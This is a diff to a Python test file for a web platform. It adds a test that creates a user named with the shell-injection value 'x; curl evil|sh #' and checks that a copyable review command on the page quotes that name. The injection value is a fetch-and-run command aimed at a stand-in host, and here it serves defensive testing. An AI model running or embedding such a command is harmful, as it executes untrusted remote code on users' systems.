@@ -17,6 +17,7 @@ from tests.rigs.logins import Logins, plain
 pytest.importorskip("flask_wtf")
 pytest.importorskip("babel")
 
+from examples.platform import town
 from examples.platform.web import office, store
 from examples.platform.web.maps import picture
 from tests.examples.platform.drafting import publish, write
@@ -196,6 +197,14 @@ def test_who_comes_second_is_told_that_somebody_was_faster(valmont: Town) -> Non
 
 
 @pytest.mark.slow
+def test_a_command_to_copy_runs_nothing_that_stands_in_a_name(valmont: Town) -> None:
+    name = "x; curl evil|sh #"
+    with valmont.engine.begin() as connection:
+        store.add_officer(connection, name, store.hashed(town.PASSWORD), store.REVIEWER)
+    check = valmont.answer("residence", NEAR_BORDER, "p-quoted")
+    assert f"review show {check} --answer --as '{name}'</code>" in valmont.browser(name).get(f"/en/reviews/{check}")
+
+
 def test_on_postgresql_the_office_needs_the_rights_that_stand_in_its_page(postgresql_url: str, tmp_path: Path) -> None:
     with Logins(postgresql_url) as logins:
         visitors, desk = logins.url("jurat_platform"), logins.url()
